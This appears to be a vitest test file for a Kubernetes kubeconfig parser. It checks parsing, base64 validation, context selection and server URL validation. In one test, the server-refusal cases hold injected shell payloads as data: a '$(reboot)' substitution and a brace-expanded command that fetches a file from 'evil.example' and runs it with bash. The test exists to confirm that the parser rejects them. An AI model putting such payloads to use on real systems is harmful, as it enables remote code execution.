import { beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '../../../src/base/secret.ts';
import { describeCluster } from '../../../src/cluster/discovery/cluster-info.ts';
import { currentContext } from '../../../src/cluster/kubeconfig/current-context.ts';
import { type Kubeconfig, KubeconfigError, parseKubeconfig } from '../../../src/cluster/kubeconfig/kubeconfig.ts';
import {
  AmbiguousKubeconfig,
  authoritiesOf,
  choose,
  serverOf,
} from '../../../src/cluster/kubeconfig/kubeconfig-source.ts';
import { Authority } from '../../wire/support/authority.ts';

let authority: Authority;
beforeAll(async () => {
  authority = await Authority.make();
});

const base64 = (text: string) => Buffer.from(text).toString('base64');
const parsed = (config: unknown) => parseKubeconfig(JSON.stringify(config));
const problemOf = async (work: () => unknown): Promise<unknown> => {
  try {
    await work();
  } catch (error) {
    if (error instanceof KubeconfigError) return [error.problem, error.detail];
    throw error;
  }
};
/** With all secrets revealed. */
const plain = (value: unknown): unknown => {
  if (value instanceof Secret) return value.reveal();
  if (Array.isArray(value)) return value.map(plain);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, plain(one)]));
};

describe('a kubeconfig', () => {
  const whole = {
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'x',
    clusters: [
      {
        name: 'c',
        cluster: {
          server: 'https://a:1',
          'tls-server-name': 't',
          'insecure-skip-tls-verify': true,
          'certificate-authority-data': base64('pem'),
          'proxy-url': 'http://u:p@proxy',
          extensions: [
            { name: 'other', extension: 1 },
            { name: 'client.authentication.k8s.io/exec', extension: { a: 1 } },
          ],
        },
      },
    ],
    users: [
      {
        name: 'u',
        user: {
          token: 'tok',
          tokenFile: '/t',
          'client-certificate-data': base64('crt'),
          'client-key-data': base64('key'),
          username: 'n',
          password: 'pw',
          exec: { command: 'x' },
          'auth-provider': { name: 'oidc', config: { a: 'b' } },
        },
      },
    ],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
  };

  it('is read with all it has', async () => {
    const config = await parsed(whole);
    expect(plain(config)).toEqual({
      currentContext: 'x',
      clusters: [
        {
          name: 'c',
          server: 'https://a:1',
          tlsServerName: 't',
          insecureSkipTlsVerify: true,
          certificateAuthority: { data: 'pem' },
          proxyUrl: 'http://u:p@proxy',
          execConfig: { a: 1 },
        },
      ],
      users: [
        {
          name: 'u',
          token: 'tok',
          tokenFile: '/t',
          clientCertificate: { data: 'crt' },
          clientKey: { data: 'key' },
          username: 'n',
          password: 'pw',
          exec: { command: 'x' },
          authProvider: { name: 'oidc', config: { a: 'b' } },
        },
      ],
      contexts: [{ name: 'x', cluster: 'c', user: 'u' }],
    });
    // A text of it does not contain the secrets.
    expect(JSON.stringify(config)).not.toMatch(/tok"|"key"|pw|u:p@/);
  });

  it('that has nothing has nothing', async () => {
    const empty = { clusters: [], users: [], contexts: [], currentContext: '' };
    expect(await parsed({})).toEqual(empty);
    expect(
      await parsed({
        clusters: null,
        users: null,
        contexts: null,
        'current-context': null,
        kind: null,
        apiVersion: '',
      }),
    ).toEqual(empty);
    const named = await parsed({
      clusters: [{ name: 'c', cluster: {} }],
      users: [{ name: 'u', user: {} }],
      contexts: [{ name: 'x' }],
    });
    expect(named).toEqual({
      currentContext: '',
      clusters: [
        {
          name: 'c',
          server: '',
          tlsServerName: undefined,
          insecureSkipTlsVerify: false,
          certificateAuthority: undefined,
          proxyUrl: undefined,
          execConfig: undefined,
        },
      ],
      users: [
        {
          name: 'u',
          token: undefined,
          tokenFile: undefined,
          clientCertificate: undefined,
          clientKey: undefined,
          username: undefined,
          password: undefined,
          exec: undefined,
          authProvider: undefined,
        },
      ],
      contexts: [{ name: 'x', cluster: '', user: '' }],
    });
  });

  it('names files, which its data overrides; but for the authority, of which there can be one', async () => {
    const user = {
      'client-certificate': '/c',
      'client-key': '/k',
      token: '',
      username: '',
      password: '',
      tokenFile: '',
    };
    const read = async (more: object) =>
      (await parsed({ users: [{ name: 'u', user: { ...user, ...more } }] })).users[0];
    expect(await read({})).toMatchObject({
      clientCertificate: { path: '/c' },
      clientKey: { path: '/k' },
      token: undefined,
      tokenFile: undefined,
    });
    expect(await read({})).toMatchObject({ username: undefined, password: undefined });
    const both = await read({ 'client-certificate-data': base64('c'), 'client-key-data': base64('k') });
    expect(plain(both)).toMatchObject({ clientCertificate: { data: 'c' }, clientKey: { data: 'k' } });
    const cluster = { 'certificate-authority': '/ca' };
    const [read1] = (await parsed({ clusters: [{ name: 'c', cluster }] })).clusters;
    expect(read1?.certificateAuthority).toEqual({ path: '/ca' });
    const twice = { ...cluster, 'certificate-authority-data': base64('x') };
    expect(await problemOf(() => parsed({ clusters: [{ name: 'c', cluster: twice }] }))).toEqual([
      'ca-twice',
      'clusters[0].cluster',
    ]);
  });

  it.each([
    [{ kind: 'Pod' }, 'wrong-kind', undefined],
    [{ apiVersion: 'v2' }, 'wrong-kind', undefined],
    [{ kind: 1 }, 'wrong-type', 'kind'],
    [{ 'current-context': 1 }, 'wrong-type', 'current-context'],
    [[], 'not-object', ''],
    ['x', 'not-object', ''],
    [null, 'not-object', ''],
    [{ clusters: {} }, 'wrong-type', 'clusters'],
    [{ clusters: [1] }, 'wrong-type', 'clusters[0]'],
    [{ clusters: [null] }, 'not-object', 'clusters[0]'],
    [{ clusters: [{}, { cluster: [] }] }, 'wrong-type', 'clusters[1].cluster'],
    [
      { clusters: [{ cluster: { 'insecure-skip-tls-verify': 'true' } }] },
      'wrong-type',
      'clusters[0].cluster.insecure-skip-tls-verify',
    ],
    [{ clusters: [{ cluster: { extensions: [1] } }] }, 'wrong-type', 'clusters[0].cluster.extensions[0]'],
    [{ users: [{ user: { exec: 'x' } }] }, 'wrong-type', 'users[0].user.exec'],
    [{ users: [{ user: { 'auth-provider': 'x' } }] }, 'wrong-type', 'users[0].user.auth-provider'],
    [{ users: [{ user: { 'auth-provider': { config: 'x' } } }] }, 'wrong-type', 'users[0].user.auth-provider.config'],
    [{ users: [{ user: { 'client-key-data': 'x' } }] }, 'bad-base64', 'users[0].user.client-key-data'],
  ])('%j is none', async (config, problem, detail) => {
    expect(await problemOf(() => parsed(config))).toEqual([problem, detail]);
  });

  it('that is no YAML is told by its position, and by nothing of its text', async () => {
    expect(await problemOf(() => parseKubeconfig('a: b\n token: [secret'))).toEqual([
      'not-yaml',
      expect.stringMatching(/^\d+:\d+$/),
    ]);
    const error = new KubeconfigError('not-yaml', '2:3');
    expect([error.message, new KubeconfigError('no-ca').message]).toEqual([
      'kubeconfig: not-yaml (2:3)',
      'kubeconfig: no-ca',
    ]);
  });

  it.each([
    ['', ''],
    ['YQ==', 'a'],
    ['YWI=', 'ab'],
    ['YWJj', 'abc'],
    ['Y\nW\r\nJj\n', 'abc'],
    ['+/+/', Buffer.from('+/+/', 'base64').toString()],
  ])('data %j is %j', async (text, data) => {
    const [cluster] = (await parsed({ clusters: [{ cluster: { 'certificate-authority-data': text } }] })).clusters;
    expect(cluster?.certificateAuthority).toEqual(data === '' ? undefined : { data });
  });

  it.each(['a', 'YQ=', 'YQ', 'YQ===', 'Y=Q=', '=', '====', 'YW Jj', 'YW-_', 'YQ==YQ=='])(
    'data %j is none',
    async (text) => {
      const problem = await problemOf(() =>
        parsed({ clusters: [{ cluster: { 'certificate-authority-data': text } }] }),
      );
      expect(problem).toEqual(['bad-base64', 'clusters[0].cluster.certificate-authority-data']);
    },
  );
});

const cluster = (name: string) => ({ name, server: `https://${name || 'unnamed'}` });
const config = (more: object): Kubeconfig =>
  ({ clusters: [], users: [], contexts: [], currentContext: '', ...more }) as unknown as Kubeconfig;
const chosen = (more: object) => {
  const { cluster: one, user } = choose(config(more));
  return [one.name, user?.name];
};

describe('what is chosen of a kubeconfig', () => {
  const [a, b, unnamed] = [cluster('a'), cluster('b'), cluster('')];
  const users = [{ name: 'u' }, { name: 'v' }];
  const contexts = [
    { name: 'x', cluster: 'b', user: 'v' },
    { name: 'y', cluster: 'b', user: '' },
  ];

  it.each<[object, unknown[]]>([
    [{ clusters: [a] }, ['a', undefined]],
    [{ clusters: [a], users: users.slice(1) }, ['a', 'v']],
    [{ clusters: [a], users }, ['a', undefined]],
    [{ clusters: [a, b], users, contexts, currentContext: 'x' }, ['b', 'v']],
    [{ clusters: [a, b], users, contexts, currentContext: 'y' }, ['b', undefined]],
    [{ clusters: [a, unnamed], users, contexts, currentContext: 'x' }, ['', 'v']],
    [{ clusters: [a, unnamed], users: users.slice(1) }, ['', 'v']],
    [{ clusters: [unnamed] }, ['', undefined]],
    [{ clusters: [a], contexts }, ['a', undefined]],
  ])('%j: %j', (given, expected) => {
    expect(chosen(given)).toEqual(expected);
  });

  it.each<[object, unknown[]]>([
    [{}, ['no-cluster', undefined]],
    [{ clusters: [a], currentContext: 'x' }, ['no-context', 'x']],
    [{ clusters: [unnamed], currentContext: 'x' }, ['no-context', 'x']],
    [{ clusters: [a], users, contexts, currentContext: 'x' }, ['no-context', 'b']],
    [{ clusters: [b], users: users.slice(0, 1), contexts, currentContext: 'x' }, ['no-context', 'v']],
    [{ clusters: [a, b] }, ['no-context', undefined]],
  ])('%j: %j', async (given, problem) => {
    expect(await problemOf(() => chosen(given))).toEqual(problem);
  });

  it('of several clusters all are told', () => {
    expect(() => chosen({ clusters: [a, b] })).toThrow(expect.objectContaining({ clusters: ['a', 'b'] }));
    expect(() => chosen({ clusters: [a, b] })).toThrow(AmbiguousKubeconfig);
  });

  it.each([
    ['https://h:1', { host: 'h', port: 1 }],
    ['https://h', { host: 'h', port: 443 }],
  ])('the server %s', (server, endpoint) => {
    expect(serverOf({ server } as Kubeconfig['clusters'][0])).toEqual(endpoint);
  });

  it.each([
    ['', 'no-server'],
    ['http://h:1', 'bad-server'],
    ['https://h/path', 'bad-server'],
    ['https://$(reboot):6443', 'bad-server'],
    ['https://a;{curl,-oa,evil.example};{bash,a};b:6443', 'bad-server'],
  ])('the server %j is refused: %s', async (server, problem) => {
    expect(await problemOf(() => serverOf({ server } as Kubeconfig['clusters'][0]))).toEqual([problem, undefined]);
  });

  it('the authorities are certificates', async () => {
    expect(authoritiesOf(authority.pem).map(String)).toEqual([authority.x509.toString()]);
    expect(await problemOf(() => authoritiesOf(''))).toEqual(['bad-ca', 'empty']);
    const trusted = authority.pem.replaceAll('CERTIFICATE', 'TRUSTED CERTIFICATE');
    expect(await problemOf(() => authoritiesOf(trusted))).toEqual(['ambiguous-ca', 'ambiguous']);
  });
});

describe('the cluster that cluster-info describes', () => {
  const described = (fields: object) => describeCluster(JSON.stringify({ clusters: [{ name: '', cluster: fields }] }));

  it('is its server and its authorities, which stand in it', async () => {
    const data = { 'certificate-authority-data': base64(authority.pem) };
    const { server, caBundle, authorities } = await described({ server: 'https://h:1', ...data });
    expect([server, caBundle, authorities.map(String)]).toEqual([
      { host: 'h', port: 1 },
      authority.pem,
      [authority.x509.toString()],
    ]);
    expect(await problemOf(() => described({ ...data }))).toEqual(['no-server', undefined]);
    expect(await problemOf(() => described({ server: 'https://h:1' }))).toEqual(['no-ca', undefined]);
    expect(await problemOf(() => described({ server: 'https://h:1', 'certificate-authority': '/etc/ca' }))).toEqual([
      'no-ca',
      undefined,
    ]);
  });
});

describe('the current context', () => {
  const whole = {
    clusters: [{ name: 'c', cluster: { server: 's' } }, { name: 'd' }],
    users: [{ name: 'u', user: { token: 't' } }, { name: 'w' }],
    contexts: [
      { name: 'x', context: { cluster: 'c', user: 'u' } },
      { name: 'z', context: { cluster: 'c', user: 'none' } },
      { name: 'q', context: { cluster: 'none', user: 'u' } },
    ],
  };
  const of = (name: string) => currentContext('/f', Buffer.from(JSON.stringify({ ...whole, 'current-context': name })));

  it('is its cluster and its user', async () => {
    expect(await of('x')).toMatchObject({ cluster: { name: 'c', server: 's' }, user: { name: 'u' } });
    expect(await of('z')).toMatchObject({ cluster: { name: 'c' }, user: undefined });
  });

  it('may be none', async () => {
    expect(await of('y')).toEqual({ problem: { type: 'no-context', file: '/f' } });
    expect(await of('')).toEqual({ problem: { type: 'no-context', file: '/f' } });
    expect(await of('q')).toEqual({ problem: { type: 'no-cluster', file: '/f' } });
    expect(await currentContext('/f', Buffer.from('kind: Pod'))).toEqual({
      problem: { type: 'bad-kubeconfig', file: '/f', detail: '' },
    });
    expect(await currentContext('/f', Buffer.from('kind: 1'))).toEqual({
      problem: { type: 'bad-kubeconfig', file: '/f', detail: 'kind' },
    });
  });
});
